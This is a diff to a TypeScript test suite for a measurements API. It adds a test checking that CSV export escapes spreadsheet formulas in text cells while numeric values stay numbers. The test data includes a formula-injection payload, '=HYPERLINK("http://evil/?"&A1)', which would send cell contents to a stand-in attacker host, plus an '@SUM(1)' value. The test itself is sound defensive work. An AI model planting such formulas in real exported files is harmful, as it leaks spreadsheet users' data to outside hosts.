@@ -168,7 +168,25 @@ describe.each(DIALECTS)('measurements on %s', (dialect) => {
     });
   });
 
-  it('exports more rows than one keyset page, in id order, each once', async () => {
+  it('neutralises spreadsheet formulas in text cells; numbers stay numbers', async () => {
+    const { recipe, versionId, s1 } = await point();
+    const lot = '=HYPERLINK("http://evil/?"&A1)';
+    await h.call('POST', '/api/measurements/batch', {
+      key: tec.key,
+      body: {
+        measurements: [
+          { subtask_id: s1, version_id: versionId, value: 9.75, lot_number: lot, serial_number: '@SUM(1)' },
+        ],
+      },
+    });
+    const csv = await h.call('GET', `/api/measurements/export/csv?recipe_id=${recipe.id}`, { key: tec.key });
+    const line = csv.text.split('\r\n')[1] as string;
+    expect(line).toContain(`,"'=HYPERLINK(""http://evil/?""&A1)",'@SUM(1),`);
+    // value 9.75, deviation -0.25: a number, not text
+    expect(line).toContain(',9.75,pass,-0.25,');
+  });
+
+  it('exports more rows than one cursor batch, in id order, each once', async () => {
     const { recipe, versionId, s1 } = await point();
     const items = Array.from({ length: 5000 }, (_, i) => ({
       subtask_id: s1,
